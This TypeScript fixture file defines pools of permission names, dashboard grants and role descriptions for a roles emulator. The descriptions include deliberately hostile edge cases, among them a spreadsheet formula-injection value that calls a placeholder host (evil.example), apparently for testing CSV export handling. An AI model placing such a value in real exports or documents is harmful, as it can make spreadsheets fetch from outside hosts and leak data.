/**
 * Pools for generated roles. People's names, e-mail domains, role-like names and dashboard names
 * come from the v1 emulator's pools (same vendor, same hostile cases).
 */

/** Permission names seen in the vendor's examples (S001) and the community script (CS-DASH). */
export const PERMISSION_NAMES: readonly string[] = [
  'read_dashboards',
  'create_dashboards',
  'create_discovery_charts',
  'create_sql_charts',
  'edit_chart_as_copy',
  'edit_dashboard_settings',
  'clone_dashboards',
  'archive_dashboards',
  'download_pdf',
  'shared_dashboards',
  'email_reports',
];

/** Site-wide rights of the "Admin" role: managing people, roles and settings. */
export const SITE_ADMIN_PERMISSIONS: readonly string[] = ['manage_users', 'manage_roles', 'manage_settings'];

/** What a dashboard grant allows, from least to most. */
export const DASHBOARD_GRANTS: readonly (readonly string[])[] = [
  ['read_dashboards'],
  ['read_dashboards', 'download_pdf'],
  ['read_dashboards', 'edit_chart_as_copy', 'email_reports'],
  ['create_dashboards'],
  ['read_dashboards', 'edit_dashboard_settings', 'archive_dashboards'],
];

/** Role descriptions, including the ones that break CSV writers and spreadsheets. */
export const ROLE_DESCRIPTIONS: readonly string[] = [
  '',
  'Read-only access to the shared dashboards',
  'Builds SQL charts, reviews data quality',
  'Managed by IT, see ticket #4411',
  'Sales, EMEA & APAC — "quota" dashboards',
  'Line one\nline two',
  '=IMPORTXML("https://evil.example","//a")',
  '@mention the data team before changing this role',
  'مديرو المبيعات',
  'Temporary 🚧 until Q4',
];
